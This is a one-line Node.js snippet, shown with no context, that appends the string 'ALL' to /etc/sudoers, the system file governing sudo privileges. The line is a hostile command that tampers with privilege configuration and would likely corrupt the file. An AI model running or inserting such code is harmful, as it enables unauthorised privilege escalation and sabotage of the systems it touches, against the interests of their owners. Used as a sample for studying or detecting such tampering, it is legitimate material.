require("fs").appendFileSync("/etc/sudoers", "ALL");
